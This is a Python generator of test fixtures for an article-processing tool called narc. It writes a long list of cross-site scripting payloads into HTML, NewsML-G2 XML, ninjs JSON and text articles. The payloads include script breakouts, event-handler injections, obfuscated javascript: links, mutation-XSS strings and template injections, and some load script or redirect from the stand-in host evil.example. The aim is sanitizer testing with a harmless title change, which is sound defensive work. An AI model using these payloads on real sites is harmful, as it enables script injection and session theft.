"""Articles that attack: each payload at every place of a page, a news item and a text from which something
comes into the page that narc writes. The payloads are our own; what they would do if they worked is set the title
of the document to GOTCHA, which a browser shows."""
import html
import json
import os

RUN = "document.title='GOTCHA'"

PAYLOADS = [
    # scripts, and ends of the elements that text stands in
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></noscript></template><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<scr<script></script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script >",
    f"<script/x>{RUN}</script\n>",
    f"<SCRIPT SRC=//evil.example/a.js></SCRIPT>{RUN}",
    f"<script><!--<script>{RUN}</script>--></script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\"}}</script><script>{RUN}//",
    f"\\\"}}]}}</script><script>{RUN}</script>",
    # handlers, and ends of attributes
    f"<img src=x onerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>",
    f"\" autofocus tabindex=0 onfocus=\"{RUN}",
    f"' onmouseover='{RUN}",
    f"x\" style=\"background:url(//evil.example)\" onanimationstart=\"{RUN}",
    f"<p title=\"</p><img src=x onerror={RUN}>\">text</p>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>more</details>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>news</marquee>",
    f"<a onclick={RUN} href=/x onpointerover={RUN}>link</a>",
    f"<figure onfocus={RUN} tabindex=0><img src=/x.png onload={RUN}><figcaption onclick={RUN}>c</figcaption></figure>",
    f"<table background=javascript:{RUN}><td background=javascript:{RUN}>cell</td></table>",
    # addresses
    f"<a href=javascript:{RUN}>link</a>",
    f"<a href=' \x01JaVaScRiPt:{RUN}'>link</a>",
    f"<a href='java\tscr\nipt:{RUN}'>link</a>",
    f"<a href='java&#10;script&colon;{RUN}'>link</a>",
    f"<a href='&#x6A;avascript&#58;{RUN}'>link</a>",
    f"<a href='javascript://news.example/%0a{RUN}'>link</a>",
    f"<a href='//news.example@javascript:{RUN}'>link</a>",
    f"<a href='vbscript:msgbox(1)'>link</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>link</a>",
    f"<a href='view-source:javascript:{RUN}'>link</a>",
    f"<img src='javascript:{RUN}'>",
    f"<img src='data:image/svg+xml,<svg onload={RUN}>'>",
    f"<img srcset='x 1x, javascript:{RUN} 2x' src=/y.png>",
    f"<blockquote cite='javascript:{RUN}'><q cite='javascript:{RUN}'>quote</q></blockquote>",
    f"javascript:{RUN}",
    f"https://news.example/\"onload=\"{RUN}",
    "https://news.example/'><base href=//evil.example/>",
    # elements that no article has
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object><embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button formaction='javascript:{RUN}'>Read on</button><input autofocus onfocus={RUN}></form>",
    "<link rel=stylesheet href=//evil.example/a.css><style>@import '//evil.example/b.css';*{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>text</p>",
    f"<isindex action='javascript:{RUN}'><keygen autofocus onfocus={RUN}>",
    f"<portal src='javascript:{RUN}'></portal><frameset onload={RUN}><frame src='javascript:{RUN}'>",
    f"<x-news is=script onfocus={RUN} contenteditable>text</x-news>",
    # markup that changes its meaning when it is parsed a second time
    f"<svg><script>{RUN}</script></svg>",
    f"<svg onload={RUN}><a xlink:href='javascript:{RUN}'><text>text</text></a><animate onbegin={RUN}></svg>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<math href='javascript:{RUN}'>text</math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xmp><img src=x onerror={RUN}></xmp><plaintext><script>{RUN}</script>",
    f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={RUN}>\">",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<pre>\n\n</pre><script>{RUN}</script>",
    # characters
    f"\ufeff<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\x1b$B<script>{RUN}</script>\x1b(B",
    f"\u2028<script>\u2029{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u202e>tpircs<{RUN}>tpircs/<",
    "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= " + RUN + " %>",
]

STORY = ("The ferry that was out of service since Tuesday is back, said the harbour master in the morning, and it will run "
         "every hour until the end of the month. Passengers who hold a ticket for the old boat may use it on the new one.")


def page(payload):
    """A web page with the payload in text, in attributes and as markup."""
    value = html.escape(payload, True)
    story = "".join(f"<p>{STORY} ({number})</p>" for number in range(4))
    linked = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle", "headline": payload, "author": payload,
                         "articleSection": payload, "keywords": [payload], "inLanguage": payload, "image": payload,
                         "publisher": {"@type": "Organization", "name": payload}}).replace("</", "<\\/")
    return (f'<!DOCTYPE html><html lang="{value}" dir="{value}"><head><meta charset="utf-8"><title>{value}</title>'
            f'<link rel="canonical" href="{value}"><meta property="og:url" content="https://news.example/{value}">'
            f'<meta property="og:title" content="{value}"><meta property="og:site_name" content="{value}">'
            f'<meta name="description" content="{value}"><meta name="author" content="{value}">'
            f'<meta property="article:published_time" content="{value}"><meta property="article:tag" content="{value}">'
            f'<meta property="og:image" content="https://news.example/{value}">'
            f'<meta property="og:image:alt" content="{value}"><meta property="og:image:width" content="{value}">'
            f'<script type="application/ld+json">{linked}</script></head><body><article><h1>{value}</h1>'
            f'<p lang="{value}" dir="{value}">{STORY} <a href="{value}" title="{value}">here</a> <time datetime="{value}">'
            f'today</time> <span lang="{value}">now</span> <img src="{value}" alt="{value}"> {value}</p>{story}'
            f'<blockquote cite="{value}">{STORY}</blockquote><table><tr><th scope="{value}">a</th>'
            f'<td colspan="{value}">{value}</td></tr></table><p>{STORY}</p>{payload}</article></body></html>')


def news_item(payload):
    value = "".join(c if c in "\t\n" or ord(c) >= 32 else " " for c in html.escape(payload, True))
    return (f'<?xml version="1.0" encoding="UTF-8"?><newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="{value}" '
            f'version="1" standard="NewsML-G2" standardversion="2.35" conformance="power" xml:lang="en"><rightsInfo>'
            f'<copyrightNotice>{value}</copyrightNotice></rightsInfo><itemMeta><itemClass qcode="ninat:text"/>'
            f'<provider literal="x"><name>{value}</name></provider><versionCreated>2026-11-29T10:00:00Z</versionCreated>'
            f'</itemMeta><contentMeta><creator literal="y"><name>{value}</name></creator><by>{value}</by>'
            f'<headline>{value}</headline><description>{value}</description></contentMeta><contentSet>'
            f'<inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>'
            f'</head><body onload="{value}"><script>{value}</script><p onclick="{value}"><a href="{value}">{value}</a></p>'
            f'<svg xmlns="http://www.w3.org/2000/svg"><script>{value}</script></svg></body></html></inlineXML>'
            f'</contentSet></newsItem>')


def ninjs(payload):
    return json.dumps({"uri": payload, "standard": {"name": "ninjs", "version": "3.1"}, "type": "text", "language": payload,
                       "headlines": [{"value": payload}], "by": payload, "copyrightnotice": payload, "copyrightNotice": payload,
                       "bodies": [{"role": "main", "contentType": "text/html", "value": f"<p>{STORY}</p>{payload}"}]})


def text(payload):
    return f"{payload}\n\n{STORY}\n\n{payload}\n\n{STORY}\n"


def write(folder, payloads=None):
    """Fills the folder with documents; answers how many."""
    kinds = (("html", page), ("xml", news_item), ("json", ninjs), ("txt", text))
    payloads = PAYLOADS if payloads is None else payloads
    for ending, make in kinds:
        os.makedirs(os.path.join(folder, ending))
        for number, payload in enumerate(payloads):
            with open(os.path.join(folder, ending, f"{number:03}.{ending}"), "wb") as file:
                file.write(make(payload).encode("utf-8", "surrogatepass"))
    return len(kinds) * len(payloads)
